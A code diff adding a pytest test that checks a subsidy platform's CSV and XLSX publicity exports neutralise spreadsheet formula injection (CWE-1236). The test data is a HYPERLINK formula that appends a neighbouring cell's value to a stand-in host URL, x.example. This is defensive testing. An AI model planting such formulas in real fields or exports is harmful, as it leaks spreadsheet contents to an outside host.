@@ -93,3 +93,19 @@ def test_exports_need_a_year_and_a_staff_token(park: Park, path: str) -> None:
     assert park.client.get(url + "?year=2025").status_code == 401
     entity = park.register("enterprise")
     assert park.client.get(url + "?year=2025", headers=park.entity_token(entity["id"])).status_code == 403
+
+
+def test_a_name_typed_as_a_formula_stays_text_when_the_csv_is_opened_in_a_spreadsheet(park: Park) -> None:
+    # CWE-1236: Excel and WPS run a CSV cell beginning with = + - @ as a formula.
+    formula = '=HYPERLINK("http://x.example/?"&C2,"点此")'
+    platform = park.register("pilot_platform", name=formula)
+    park.record(platform["id"], "equipment_purchased", {"year": 2025, "original_value": "12000000.00"},
+                occurred_on="2025-12-01")
+    [owed] = park.client.get(f"/api/v1/entities/{platform['id']}/entitlements?year=2025",
+                             headers=park.admin).get_json()
+    approved = park.record(platform["id"], "entitlement_approved", {"entitlement_id": owed["id"]})
+    assert approved.status_code == 201, approved.get_json()
+    table = _csv(park, "/api/v1/exports/publicity.csv?year=2025")
+    assert table[1][1] == "'" + formula
+    rows, _sheet_of = _sheet(park, "/api/v1/exports/publicity.xlsx?year=2025")
+    assert rows[1][1] == formula  # a workbook's text cell is never a formula: kept as typed
